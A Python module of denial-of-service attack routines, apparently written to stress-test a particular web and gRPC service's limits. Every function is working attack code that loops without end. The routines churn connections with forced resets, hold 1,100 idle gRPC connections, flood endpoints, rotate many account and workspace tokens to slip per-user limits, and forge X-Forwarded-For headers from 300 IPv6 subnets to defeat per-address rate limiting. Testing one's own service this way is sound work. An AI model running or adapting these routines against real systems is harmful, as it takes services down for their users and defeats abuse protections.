"""Attacks by number: connections that are opened and reset, held, or ask for little without a pause.

Each is what one laptop does.
"""

from __future__ import annotations

import select
import socket
import struct
import time
from collections import Counter
from collections.abc import Sequence
from contextlib import suppress

from attacking.target import ADDRESSES, Target

_PROXY = "127.0.0.1"
"""Address of connections whose `X-Forwarded-For` the service trusts."""

_SUBNETS = 300
_RESET = struct.pack("ii", 1, 0)
_HTTP_2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
_ABSENT = "A" * 22
_AGAIN_SECONDS = 0.2
"""Seconds until a connection that the service has closed is opened again."""


def _connect(target: Target, address: str, port: int = 0) -> socket.socket:
    client = socket.socket()
    client.settimeout(10)
    client.bind((address, 0))
    try:
        client.connect((target.host, port or target.port))
    except OSError:
        client.close()
        raise
    return client


def churn(target: Target, tally: Counter[str]) -> None:
    """Open a connection, send a request and reset it, again and again."""
    request = target.ask("GET", "/healthz")
    while True:
        try:
            with _connect(target, ADDRESSES[0]) as client:
                client.sendall(request)
                client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _RESET)
            tally["reset"] += 1
        except OSError:
            tally["not connected"] += 1


def ask_health(target: Target, tally: Counter[str], count: int) -> None:
    """Ask on so many connections whether the service is alive."""
    _repeat(target, tally, [target.ask("GET", "/healthz")] * count, ADDRESSES[0])


def be_refused(target: Target, tally: Counter[str], count: int) -> None:
    """Ask on so many connections for what is not there; most are over the address' share."""
    request = target.ask("GET", f"/api/v1/experiments/{_ABSENT}/scalars")
    _repeat(target, tally, [request] * count, ADDRESSES[0])


def use_workspaces(target: Target, tally: Counter[str]) -> None:
    """Read at once with a token of each of the workspaces that one person has created."""
    _read_with(target, tally, target.workspace_tokens)


def use_invited(target: Target, tally: Counter[str]) -> None:
    """Read at once as each of the accounts that one member has invited."""
    _read_with(target, tally, target.invited_tokens)


def _read_with(target: Target, tally: Counter[str], tokens: Sequence[str]) -> None:
    plain = target.data("points", "scalars/data?sampling=extremes&downsample=100")
    requests = [
        plain.replace(b"\r\n", b"\r\nAuthorization: Bearer %s\r\n" % token.encode(), 1)
        for token in tokens
    ]
    _repeat(target, tally, requests, ADDRESSES[0])


def use_subnets(target: Target, tally: Counter[str]) -> None:
    """Open the first page at once from many subnets of one IPv6 network."""
    plain = target.ask("GET", "/")
    requests = [
        plain.replace(b"\r\n", b"\r\nX-Forwarded-For: 2001:db8:0:%x::1\r\n" % number, 1)
        for number in range(_SUBNETS)
    ]
    _repeat(target, tally, requests, _PROXY)


def hold_grpc(target: Target, tally: Counter[str]) -> None:
    """Hold 1,100 connections of gRPC without a call, and open those again that are closed."""
    held: list[socket.socket] = []
    while True:
        with suppress(OSError):
            held.append(_connect(target, ADDRESSES[0], target.grpc_port))
            held[-1].sendall(_HTTP_2_PREFACE)
            tally["held"] += 1
        if len(held) >= 1_100:
            time.sleep(0.02)
            held.pop(0).close()


def _repeat(target: Target, tally: Counter[str], requests: Sequence[bytes], address: str) -> None:
    """Send each request on a connection of its own, again whenever it is answered; do not end."""
    poll, clients = select.epoll(), {}
    closed = [request.replace(b"Connection: close\r\n", b"") for request in requests]
    again_at = Counter[bytes]()
    while True:
        now = time.monotonic()
        waiting, closed = closed, []
        for request in waiting:
            if again_at[request] > now:
                closed.append(request)
                continue
            try:
                client = _connect(target, address)
                client.sendall(request)
            except OSError:
                tally["not connected"] += 1
                closed.append(request)
                break  # the others would wait for as long
            clients[client.fileno()] = client, request
            poll.register(client, select.EPOLLIN)

        for number, _events in poll.poll(_AGAIN_SECONDS):
            client, request = clients[number]
            try:
                answer = client.recv(65_536)
                if answer.startswith(b"HTTP/1.1 "):  # else more of the same
                    tally[answer[9:12].decode("latin-1")] += 1
                    client.sendall(request)
            except OSError:
                answer = b""
            if not answer:
                tally["closed"] += 1
                poll.unregister(number)
                clients.pop(number)[0].close()
                closed.append(request)
                again_at[request] = now + _AGAIN_SECONDS
